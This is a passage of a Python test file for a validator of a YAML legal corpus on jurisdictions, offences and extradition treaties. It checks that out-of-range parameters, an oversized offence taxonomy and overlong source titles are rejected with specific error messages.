        "br_us: both are a bilateral_treaty between BR, US covering extradition (hint: merge "
        "the two files, or remove the one that is superseded)" in out
    )


@pytest.mark.parametrize("value", ["-5", str(10**30)])
def test_absurd_parameters_are_rejected(
    tmp_path: Path, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = state("US", "none").replace(
        "  participation_ocg:\n",
        f"  participation_ocg:\n    parameters: {{min_persons: {value}}}\n",
        1,
    )
    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": text})
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        r"corpus/jurisdictions/us.yaml:\d+:\d+: error\[C208\]: offences.participation_ocg."
        r"parameters.min_persons: Input should be a whole number from 0 to "
        r"1,000,000,000,000 or 'unknown'",
        out,
    ), out
    root = instrument_corpus(
        tmp_path / "baseline", ("min_persons: {value: 3,", f"min_persons: {{value: {value},")
    )
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        rf"untoc.yaml:\d+:\d+: error\[C305\]: elements\.\d+\.parameters\.min_persons\.value: "
        rf"{value} is out of range",
        out,
    ), out


def test_the_taxonomy_is_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from generator.core.limits import LIMITS

    from .conftest import SHIPPED

    taxonomy = (SHIPPED / "offences.yaml").read_text() + "".join(
        f"  - id: extra_{n}\n    name: Extra {n}\n    description: Padding.\n"
        for n in range(LIMITS["offences"])
    )
    root = make_corpus(
        tmp_path, {"jurisdictions/us.yaml": state("US", "none"), "offences.yaml": taxonomy}
    )
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        r"corpus/offences.yaml:\d+:5: error\[C306\]: offences.200: the corpus has 2\d\d offences; "
        r"the limit is 200",
        out,
    ), out


def test_long_text_is_rejected() -> None:
    from generator.core.models import Source

    with pytest.raises(ValueError, match="at most 4000 characters"):
        Source.model_validate({"title": "x" * 4001, "citation": "x", "accessed": date(2026, 1, 1)})
